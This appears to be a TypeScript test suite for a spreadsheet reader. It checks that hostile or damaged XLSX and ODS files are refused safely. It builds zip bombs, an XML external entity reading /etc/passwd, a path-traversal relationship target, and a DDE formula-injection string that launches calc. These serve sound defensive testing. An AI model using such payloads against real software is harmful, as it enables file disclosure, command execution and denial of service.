import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { CompassError } from '../../src/source/problem.ts';
import { valueText } from '../../src/workbook/read/content.ts';
import { readWorkbook } from '../../src/workbook/read.ts';
import { plainOds, plainXlsx, sheetData } from '../fixtures/workbooks.ts';

/** Milliseconds in which each case ends. On an idle machine the slowest take a second; the tests of other files run beside this one. */
const soon = 20_000;

const megabyte = 1024 * 1024;

/** A workbook whose archive says of one part that it is smaller than it is. */
function lying(): Uint8Array {
  const bytes = plainXlsx(new Uint8Array(40 * megabyte).fill(32));
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.length);
  const centralDirectory = 0x02014b50;
  for (let at = 0; at + 46 < bytes.length; at++) {
    if (view.getUint32(at, true) === centralDirectory && view.getUint32(at + 24, true) === 40 * megabyte)
      view.setUint32(at + 24, 1000, true);
  }
  return bytes;
}

/** The container in which Excel saves a workbook with a password, or the old format. */
function container(stream: string): Uint8Array {
  const name = Uint8Array.from([...stream].flatMap((letter) => [letter.charCodeAt(0), 0]));
  return Uint8Array.from([
    0xd0,
    0xcf,
    0x11,
    0xe0,
    0xa1,
    0xb1,
    0x1a,
    0xe1,
    ...new Uint8Array(600),
    ...name,
    ...new Uint8Array(100),
  ]);
}

const numberCell = '<c r="A1"><v>1</v></c>';
const whole = plainXlsx(sheetData(`<row>${numberCell}</row>`));
const odsCell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>';

const refused: readonly (readonly [what: string, bytes: () => Uint8Array, code: string])[] = [
  ['a zip bomb', () => plainXlsx(new Uint8Array(80 * megabyte).fill(32)), 'workbook-too-large'],
  ['a zip bomb that says that it is small', lying, 'workbook-unreadable'],
  [
    'a million rows',
    () => plainXlsx(sheetData(`<row>${'<c r="A1"><v>1</v></c>'}</row>`.repeat(1_048_576))),
    'workbook-too-large',
  ],
  ['more rows than a sheet can have', () => plainXlsx(sheetData('<row/>'.repeat(1_200_000))), 'workbook-too-many-rows'],
  [
    'more cells than anybody fills in',
    () => plainXlsx(sheetData(`<row>${'<c><v>1</v></c>'.repeat(100)}</row>`.repeat(4000))),
    'workbook-too-many-cells',
  ],
  [
    'more elements than anybody makes',
    () => plainXlsx(sheetData(`<row>${'<c/>'.repeat(2_100_000)}</row>`)),
    'workbook-too-complex',
  ],
  ['a hundred thousand elements in each other', () => plainXlsx(`<worksheet>${'<a>'.repeat(100_000)}`), 'workbook-too-complex'],
  [
    'a full sheet in a few bytes',
    () => plainOds(`<table:table-row table:number-rows-repeated="1048576">${odsCell}</table:table-row>`),
    'workbook-too-many-cells',
  ],
  [
    'gigabytes of spaces in a few bytes',
    () =>
      plainOds(
        `<table:table-row><table:table-cell><text:p>${'<text:s text:c="1000000"/>'.repeat(5000)}</text:p></table:table-cell></table:table-row>`,
      ),
    'workbook-too-large',
  ],
  [
    'entities that expand',
    () => plainXlsx('<!DOCTYPE w [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'),
    'workbook-entities',
  ],
  [
    'entities that read a file',
    () => plainXlsx('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'),
    'workbook-entities',
  ],
  [
    'entities in an OpenDocument file',
    () => plainOds('', { 'content.xml': '<!DOCTYPE x><office:document-content/>' }),
    'workbook-entities',
  ],
  ['a workbook with a password', () => container('EncryptedPackage'), 'workbook-encrypted'],
  [
    'an OpenDocument file with a password',
    () => plainOds('', { 'META-INF/manifest.xml': '<manifest:manifest><manifest:encryption-data/></manifest:manifest>' }),
    'workbook-encrypted',
  ],
  ['an old Excel file', () => container('Workbook'), 'workbook-old'],
  ['a file that was cut off', () => whole.slice(0, -60), 'workbook-unreadable'],
  ['a sheet that was cut off', () => plainXlsx('<worksheet><sheetData><row><c r="A1"><v>1'), 'workbook-unreadable'],
  ['an empty file', () => new Uint8Array(0), 'workbook-unreadable'],
  ['a text', () => strToU8('id,level\na.b,2\n'), 'workbook-unreadable'],
  ['a zip archive of something else', () => zipSync({ 'a.txt': strToU8('a') }), 'workbook-unreadable'],
  [
    'a Word file',
    () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w:document/>') }),
    'workbook-is-document',
  ],
  ['a main part that is none', () => plainXlsx('<worksheet/>', { 'xl/workbook.xml': '<html/>' }), 'workbook-unreadable'],
  [
    'a part outside the archive',
    () =>
      plainXlsx('<worksheet/>', {
        '_rels/.rels':
          '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="../../../etc/passwd"/></Relationships>',
      }),
    'workbook-unreadable',
  ],
];

describe('a hostile or damaged workbook', () => {
  it.each(refused)('is refused with one sentence: %s', (_, make, code) => {
    const bytes = make();
    const start = performance.now();
    let problem: unknown;
    try {
      readWorkbook(bytes, 'hostile.xlsx');
    } catch (error) {
      problem = error;
    }
    expect(problem).toBeInstanceOf(CompassError);
    expect((problem as CompassError).problems.map((each) => [each.code, each.source])).toEqual([[code, 'hostile.xlsx']]);
    expect((problem as CompassError).message).not.toMatch(/\{\w+\}/);
    expect(performance.now() - start).toBeLessThan(soon);
  });

  it('that says how large it is takes no memory and no time', () => {
    const bytes = plainXlsx(new Uint8Array(80 * megabyte).fill(32));
    const before = process.memoryUsage().arrayBuffers;
    const start = performance.now();
    expect(() => readWorkbook(bytes, 'bomb.xlsx')).toThrow(CompassError);
    expect(performance.now() - start).toBeLessThan(1000);
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(10 * megabyte);
  });
});

describe('a workbook with any damage', () => {
  const refusesOrReads = (bytes: Uint8Array): void => {
    try {
      readWorkbook(bytes, 'damaged');
    } catch (error) {
      expect(error).toBeInstanceOf(CompassError);
    }
  };

  it('is read or refused with a sentence: bytes changed', () => {
    const change = fc.tuple(fc.nat({ max: whole.length - 1 }), fc.nat({ max: 255 }));
    fc.assert(
      fc.property(fc.array(change, { minLength: 1, maxLength: 20 }), (changes) => {
        const bytes = Uint8Array.from(whole);
        for (const [at, byte] of changes) bytes[at] = byte;
        refusesOrReads(bytes);
      }),
      { numRuns: 1000 },
    );
  });

  it('is read or refused with a sentence: any pieces of XML in a sheet', () => {
    const piece = fc.constantFrom(
      ...[
        '<row>',
        '</row>',
        '<row r="x" hidden="1">',
        '<c>',
        '<c r="B2" t="s">',
        '<c t="inlineStr" s="7">',
        '</c>',
        '<v>',
        '</v>',
        '1',
        'text',
      ],
      ...[
        '<is>',
        '</is>',
        '<t>',
        '</t>',
        '<f>',
        '</f>',
        '<mergeCell ref="A1:B2"/>',
        '<mergeCell ref=":"/>',
        '&amp;',
        '&#0;',
        '&x;',
        '<![CDATA[',
        ']]>',
        '<!--',
        '-->',
      ],
      ...[
        '<table:table-row>',
        '</table:table-row>',
        '<table:table-cell office:value-type="date">',
        '</table:table-cell>',
        '<text:p>',
        '</text:p>',
        '<text:s/>',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        refusesOrReads(plainXlsx(sheetData(pieces.join(''))));
        refusesOrReads(plainOds(pieces.join('')));
      }),
      { numRuns: 500 },
    );
  });
});

describe('a workbook with more than cells', () => {
  const read = (sheet: string, more: Readonly<Record<string, string>> = {}) => readWorkbook(plainXlsx(sheet, more), 'test');

  it.each([
    ["cmd|' /C calc'!A0", '0'],
    ['WEBSERVICE("http://example.org/"&amp;A2)', 'cached'],
    ['HYPERLINK("http://example.org")', 'click'],
    ['[1]Sheet1!A1', '#REF!'],
  ])('has a formula as text with the value that was saved, and runs nothing: %s', (formula, value) => {
    const [sheet] = read(sheetData(`<row><c r="A1" t="str"><f>${formula}</f><v>${value}</v></c></row>`)).sheets;
    const cell = sheet?.rows[0]?.cells.get(1);
    expect([cell?.formula, cell && valueText(cell.value)]).toEqual([formula.replace('&amp;', '&'), value]);
  });

  it('says that it has macros, and does not read them', () => {
    expect(read('<worksheet/>', { 'xl/vbaProject.bin': 'x' }).notices).toEqual(['macros']);
    expect(readWorkbook(plainOds('', { 'Basic/Standard/Module1.xml': '<x/>' }), 'test').notices).toEqual(['macros']);
  });

  it('says that it has links to other files, and follows none', () => {
    expect(read('<worksheet/>', { 'xl/externalLinks/externalLink1.xml': '<x/>' }).notices).toEqual(['external-links']);
    expect(readWorkbook(plainOds('<table:table-source xlink:href="file:///etc/passwd"/>'), 'test').notices).toEqual([
      'external-links',
    ]);
  });

  it.each(['XFE1', 'A0', 'A99999999', 'A1048577', '-1', '__proto__', '1e9'])(
    'has no cell at an address that there is not: %s',
    (address) => {
      const [sheet] = read(sheetData(`<row r="${address}"><c r="${address}"><v>1</v></c></row>`)).sheets;
      expect(sheet?.rows.every(({ number }) => number >= 1 && number <= 1_048_576)).toBe(true);
    },
  );

  it.each(['99999', '-1', 'x', ''])('has no text at a number that there is not: %j', (number) => {
    const [sheet] = read(sheetData(`<row><c r="A1" t="s" s="${number}"><v>${number}</v></c><c r="B1"><v>1</v></c></row>`), {
      'xl/sharedStrings.xml': '<sst/>',
    }).sheets;
    expect([...(sheet?.rows[0]?.cells.keys() ?? [])]).toEqual([2]);
  });

  it('reads a full sheet of empty cells, which a program may write, in no time', () => {
    const rows =
      '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>';
    const start = performance.now();
    expect(readWorkbook(plainOds(rows), 'test').sheets[0]?.rows).toEqual([]);
    expect(performance.now() - start).toBeLessThan(1000);
  });
});
